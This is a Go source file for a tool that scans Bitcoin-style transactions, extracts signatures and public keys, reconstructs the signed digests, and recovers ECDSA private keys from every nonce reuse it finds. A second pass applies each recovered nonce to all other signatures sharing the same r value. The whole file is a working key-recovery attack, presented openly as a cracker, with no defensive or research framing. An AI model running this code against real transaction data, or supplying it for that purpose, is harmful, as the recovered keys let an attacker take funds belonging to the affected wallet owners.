// Package cracker drives the nonce-reuse hunt: it decodes transactions,
// extracts (pubkey, signature) candidates from their scripts and
// witnesses, reconstructs the digest each signature covers, groups
// artifacts by (pubkey, r) and recovers private keys from every collision.
package cracker

import (
	"errors"
	"math/big"

	"go.uber.org/zap"

	"github.com/nspcc-dev/txcrack/pkg/crypto/ecdsa"
	"github.com/nspcc-dev/txcrack/pkg/crypto/hash"
	"github.com/nspcc-dev/txcrack/pkg/crypto/keys"
	"github.com/nspcc-dev/txcrack/pkg/txn"
	"github.com/nspcc-dev/txcrack/pkg/util"
)

// ErrMissingValue is returned (and logged) when a witness sighash is
// needed but the spent output, whose value BIP143 commits to, is unknown.
var ErrMissingValue = errors.New("spent value unknown, can't compute witness sighash")

// OutputResolver looks up the output spent by an outpoint. It may return
// false for outputs it does not know, the cracker degrades gracefully.
type OutputResolver func(txid util.Uint256, index uint32) (txn.Output, bool)

// Artifact is one (pubkey, signature, digest) triple gathered from a
// transaction input.
type Artifact struct {
	// TxHash and InputIndex locate the input the signature was found in.
	TxHash     util.Uint256
	InputIndex int
	// SourceTx and SourceIndex identify the outpoint that input spends.
	SourceTx    util.Uint256
	SourceIndex uint32
	// PubKey is the serialized public key exactly as pushed.
	PubKey []byte
	// Sig holds (r, s, hashtype).
	Sig *txn.Signature
	// Digest is the message actually covered by the signature.
	Digest util.Uint256
}

// Secret is one recovered (nonce, private key) pair together with the
// public key it unlocks and the location of the artifact that revealed it
// first.
type Secret struct {
	PubKey     []byte
	R          *big.Int
	K          *big.Int
	X          *big.Int
	TxHash     util.Uint256
	InputIndex int
}

// Cracker accumulates artifacts over any number of transactions and
// recovers keys from nonce collisions. It is not safe for concurrent use.
type Cracker struct {
	engine  *ecdsa.Engine
	log     *zap.Logger
	resolve OutputResolver

	// txs indexes decoded transactions by id for the resolver fallback.
	txs map[util.Uint256]*txn.Transaction

	artifacts []*Artifact
	// groupKeys keeps group enumeration in first-seen order so results
	// are deterministic.
	groupKeys []string
	groups    map[string][]*Artifact
}

// New creates a Cracker. The resolver may be nil when no spent-output
// source is available.
func New(log *zap.Logger, resolve OutputResolver) *Cracker {
	if log == nil {
		log = zap.NewNop()
	}
	return &Cracker{
		engine:  ecdsa.Secp256k1(),
		log:     log,
		resolve: resolve,
		txs:     make(map[util.Uint256]*txn.Transaction),
		groups:  make(map[string][]*Artifact),
	}
}

// Add decodes one raw transaction and gathers its artifacts. Decode
// failures are returned, per-input extraction failures are logged and
// skipped.
func (c *Cracker) Add(raw []byte) error {
	t, err := txn.NewTransactionFromBytes(raw)
	if err != nil {
		return err
	}
	id, err := t.Hash()
	if err != nil {
		return err
	}
	c.txs[id] = t
	c.log.Info("transaction indexed", zap.Stringer("txid", id),
		zap.Int("inputs", len(t.Inputs)), zap.Bool("witness", t.HasWitness()))

	for i := range t.Inputs {
		c.addInput(t, id, i)
	}
	return nil
}

// lookupOutput finds the spent output through the resolver or among the
// already indexed transactions.
func (c *Cracker) lookupOutput(txid util.Uint256, index uint32) (txn.Output, bool) {
	if prev, ok := c.txs[txid]; ok && int(index) < len(prev.Outputs) {
		return prev.Outputs[index], true
	}
	if c.resolve != nil {
		return c.resolve(txid, index)
	}
	return txn.Output{}, false
}

// addInput extracts every (pubkey, signature) combination from one input
// and computes the digest each would cover.
func (c *Cracker) addInput(t *txn.Transaction, id util.Uint256, index int) {
	in := &t.Inputs[index]
	pubkeys, sigs := c.scanScript(id, index, in.Script)
	if t.HasWitness() {
		wp, ws := c.scanWitness(id, index, &t.Witnesses[index])
		pubkeys = append(pubkeys, wp...)
		sigs = append(sigs, ws...)
	}
	if len(pubkeys) == 0 || len(sigs) == 0 {
		return
	}

	spent, known := c.lookupOutput(in.PrevHash, in.PrevIndex)

	for _, sig := range sigs {
		for _, pub := range pubkeys {
			digest, err := c.messageHash(t, index, pub, sig, spent, known)
			if err != nil {
				c.log.Warn("skipping input", zap.Stringer("txid", id),
					zap.Int("input", index), zap.Error(err))
				continue
			}
			art := &Artifact{
				TxHash:      id,
				InputIndex:  index,
				SourceTx:    in.PrevHash,
				SourceIndex: in.PrevIndex,
				PubKey:      pub,
				Sig:         sig,
				Digest:      digest,
			}
			c.artifacts = append(c.artifacts, art)
			key := string(pub) + string(sig.R[:])
			if _, ok := c.groups[key]; !ok {
				c.groupKeys = append(c.groupKeys, key)
			}
			c.groups[key] = append(c.groups[key], art)
		}
	}
}

// messageHash picks the right sighash for the input: BIP143 when the
// transaction carries witness data (which needs the spent value), legacy
// otherwise with the spent script or a P2PKH scriptCode synthesized from
// the pubkey when the spent output is unknown.
func (c *Cracker) messageHash(t *txn.Transaction, index int, pub []byte, sig *txn.Signature, spent txn.Output, known bool) (util.Uint256, error) {
	if t.HasWitness() {
		if !known {
			return util.Uint256{}, ErrMissingValue
		}
		return t.SigHashWitness(sig.HashType, index, spent.Value, spent.Script)
	}
	script := spent.Script
	if !known {
		script = inventP2PKH(pub)
	}
	return t.SigHashLegacy(sig.HashType, index, script)
}

// inventP2PKH builds the canonical pay-to-pubkey-hash locking script for
// the pubkey. For standard P2PKH spends this reproduces the spent script
// exactly, so unknown prevouts are no obstacle to cracking them.
func inventP2PKH(pub []byte) txn.Script {
	h := hash.Hash160(pub)
	b := make([]byte, 0, 25)
	b = append(b, 0x76, 0xa9, 0x14) // DUP HASH160 <20>
	b = append(b, h.BytesBE()...)
	b = append(b, 0x88, 0xac) // EQUALVERIFY CHECKSIG
	return txn.NewScript(b)
}

// isPubKeyPush recognizes SEC-encoded public keys among pushed data.
func isPubKeyPush(b []byte) bool {
	if len(b) != 33 && len(b) != 65 {
		return false
	}
	return b[0] == 0x02 || b[0] == 0x03 || b[0] == 0x04
}

// isSignaturePush recognizes DER signatures among pushed data. The length
// bound matches what real transaction signatures look like; DER itself
// admits more, but anything outside this window is noise here.
func isSignaturePush(b []byte) bool {
	return len(b) > 50 && len(b) < 74 && b[0] == 0x30
}

// scanScript walks script bytecode collecting pubkey and signature
// pushes. Pushed payloads that look like scripts themselves (P2SH redeem
// scripts and the like) are walked recursively, iteration errors inside
// them are swallowed.
func (c *Cracker) scanScript(id util.Uint256, index int, s txn.Script) (pubkeys [][]byte, sigs []*txn.Signature) {
	it := s.Iterate()
	for item, ok := it.Next(); ok; item, ok = it.Next() {
		if item.Kind != txn.KindData {
			continue
		}
		pubkeys, sigs = c.classifyPush(id, index, item.Data, pubkeys, sigs)
	}
	if err := it.Err(); err != nil {
		c.log.Warn("script iteration stopped", zap.Stringer("txid", id),
			zap.Int("input", index), zap.Error(err))
	}
	return pubkeys, sigs
}

// scanWitness collects pubkeys and signatures from the witness stack. The
// final element of a multi-element stack may be a script, it is scanned
// for embedded pushes as well.
func (c *Cracker) scanWitness(id util.Uint256, index int, wit *txn.Witness) (pubkeys [][]byte, sigs []*txn.Signature) {
	for _, item := range wit.Stack {
		pubkeys, sigs = c.classifyPush(id, index, item, pubkeys, sigs)
	}
	return pubkeys, sigs
}

// classifyPush sorts one pushed payload into pubkeys or signatures and
// recurses into embedded scripts.
func (c *Cracker) classifyPush(id util.Uint256, index int, data []byte, pubkeys [][]byte, sigs []*txn.Signature) ([][]byte, []*txn.Signature) {
	switch {
	case isPubKeyPush(data):
		pubkeys = append(pubkeys, data)
	case isSignaturePush(data):
		sig, err := txn.DecodeSignature(data)
		if err != nil {
			c.log.Warn("bad signature push", zap.Stringer("txid", id),
				zap.Int("input", index), zap.Error(err))
			return pubkeys, sigs
		}
		sigs = append(sigs, sig)
	case len(data) > 0:
		// Try the payload as an embedded script; whatever it yields
		// before failing is kept.
		it := txn.NewScript(data).Iterate()
		for item, ok := it.Next(); ok; item, ok = it.Next() {
			if item.Kind != txn.KindData {
				continue
			}
			if isPubKeyPush(item.Data) {
				pubkeys = append(pubkeys, item.Data)
			} else if isSignaturePush(item.Data) {
				if sig, err := txn.DecodeSignature(item.Data); err == nil {
					sigs = append(sigs, sig)
				}
			} else if len(item.Data) > 0 {
				pubkeys, sigs = c.classifyPush(id, index, item.Data, pubkeys, sigs)
			}
		}
	}
	return pubkeys, sigs
}

// Run enumerates every (pubkey, r) collision and recovers what it can.
// Within a group pairs are tried in the order their artifacts were added,
// making the output deterministic. A second pass reapplies every recovered
// nonce to all artifacts sharing its r value, catching keys that reused a
// nonce across different public keys.
func (c *Cracker) Run() []Secret {
	var (
		secrets []Secret
		knownX  = make(map[string]bool)
		// rToK remembers recovered nonces by r for the second pass.
		rToK = make(map[string]*big.Int)
	)

	for _, key := range c.groupKeys {
		group := c.groups[key]
		for i := 0; i < len(group); i++ {
			for j := i + 1; j < len(group); j++ {
				for _, res := range c.crackPair(group[i], group[j]) {
					rkey := string(group[i].Sig.R[:])
					if _, ok := rToK[rkey]; !ok {
						rToK[rkey] = res.K
					}
					if xkey := res.X.String(); !knownX[xkey] {
						knownX[xkey] = true
						secrets = append(secrets, res)
					}
				}
			}
		}
	}

	// Second pass: a known nonce cracks every signature that used it, no
	// collision required.
	for _, art := range c.artifacts {
		k, ok := rToK[string(art.Sig.R[:])]
		if !ok {
			continue
		}
		m := new(big.Int).SetBytes(art.Digest.BytesBE())
		for _, s := range c.signVariants(art.Sig.SInt()) {
			x, err := c.engine.Crack1(art.Sig.RInt(), s, m, k)
			if err != nil {
				c.log.Warn("crack1 failed", zap.Stringer("txid", art.TxHash),
					zap.Int("input", art.InputIndex), zap.Error(err))
				continue
			}
			if !c.matchesPubKey(x, art.PubKey) {
				continue
			}
			if xkey := x.String(); !knownX[xkey] {
				knownX[xkey] = true
				secrets = append(secrets, Secret{
					PubKey:     art.PubKey,
					R:          art.Sig.RInt(),
					K:          k,
					X:          x,
					TxHash:     art.TxHash,
					InputIndex: art.InputIndex,
				})
			}
		}
	}
	return secrets
}

// signVariants returns s and -s mod n: ECDSA signatures are malleable in
// the sign of s, the recorded s may be the negation of the one produced
// with the nonce as recovered.
func (c *Cracker) signVariants(s *big.Int) []*big.Int {
	return []*big.Int{s, new(big.Int).Neg(s)}
}

// crackPair runs Crack2 over the four s-sign combinations of a colliding
// pair and keeps the candidates whose recovered key actually produces the
// witnessed public key.
func (c *Cracker) crackPair(a, b *Artifact) []Secret {
	var (
		r       = a.Sig.RInt()
		m1      = new(big.Int).SetBytes(a.Digest.BytesBE())
		m2      = new(big.Int).SetBytes(b.Digest.BytesBE())
		results []Secret
	)
	for _, s1 := range c.signVariants(a.Sig.SInt()) {
		for _, s2 := range c.signVariants(b.Sig.SInt()) {
			k, x, err := c.engine.Crack2(r, s1, s2, m1, m2)
			if err != nil {
				c.log.Debug("crack2 rejected pair", zap.Stringer("txid", a.TxHash),
					zap.Int("input", a.InputIndex), zap.Error(err))
				continue
			}
			if x.Sign() == 0 || k.Sign() == 0 {
				continue
			}
			if !c.matchesPubKey(x, a.PubKey) {
				continue
			}
			results = append(results, Secret{
				PubKey:     a.PubKey,
				R:          r,
				K:          k,
				X:          x,
				TxHash:     a.TxHash,
				InputIndex: a.InputIndex,
			})
		}
	}
	return results
}

// matchesPubKey verifies a candidate private key against the serialized
// public key found next to the signature.
func (c *Cracker) matchesPubKey(x *big.Int, pub []byte) bool {
	want, err := keys.NewPublicKeyFromBytes(pub)
	if err != nil {
		return false
	}
	return c.engine.PublicKey(x).Equals(want.P)
}
